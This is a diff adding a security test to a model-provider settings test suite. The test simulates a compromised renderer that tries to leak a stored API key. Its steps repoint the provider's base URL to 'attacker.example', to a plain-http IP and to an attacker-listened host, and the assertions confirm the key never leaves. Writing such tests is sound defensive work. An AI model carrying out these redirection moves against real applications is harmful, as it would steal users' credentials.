@@ -232,6 +232,33 @@ describe('model provider settings through the contract', () => {
     expect((await store.keys('')).filter((k) => k.includes(provider.providerId))).toEqual([]);
   });
 
+  it('a compromised renderer calling every models channel cannot read a key or get it sent to another host', async () => {
+    const victimKey = `sk-victim-${randomBytes(20).toString('hex')}`;
+    const { provider } = await ok<{ provider: View }>('models:add-provider', { kind: 'openai', label: 'Victim', baseUrl: openai.baseUrl, apiKey: victimKey });
+    const id = provider.providerId;
+    const attempts: Array<[ChannelName, unknown]> = [
+      ['models:list-providers', {}],
+      ['models:list-models', { providerId: id }],
+      ['models:test', { providerId: id, model: 'gpt-fixture' }],
+      ['models:add-provider', { kind: 'openai', label: 'Clone', baseUrl: elsewhere.baseUrl, providerId: id }],
+      ['models:update-provider', { providerId: id, baseUrl: 'http://198.51.100.7/v1' }],
+      ['models:update-provider', { providerId: id, baseUrl: 'https://attacker.example/v1', apiKey: 'x' }],
+      ['models:set-key', { providerId: id, apiKey: victimKey, baseUrl: elsewhere.baseUrl }],
+      // The one move the contract allows: point it at a host the attacker listens on.
+      ['models:update-provider', { providerId: id, baseUrl: elsewhere.baseUrl }],
+      ['models:test', { providerId: id }],
+      ['models:list-models', { providerId: id }],
+    ];
+    const answers: unknown[] = [];
+    for (const [channel, request] of attempts) answers.push(await call(channel, request));
+    expect(JSON.stringify(answers)).not.toContain(victimKey);
+    for (const r of elsewhere.requests) expect(JSON.stringify(r)).not.toContain(victimKey);
+    expect((await store.keys('')).filter((k) => k.includes(id))).toEqual([]);
+    expect(answers[4]).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST', message: expect.stringMatching(/baseUrl: plain http/) } });
+    expect(answers[7]).toMatchObject({ ok: true, value: { keyRemoved: true } });
+    await ok('models:remove-provider', { providerId: id });
+  });
+
   it('a server without a model listing is tested with a one-token request; a model it does not list is reported', async () => {
     const local = await startOpenAIFixture({ models: 'missing' });
     try {
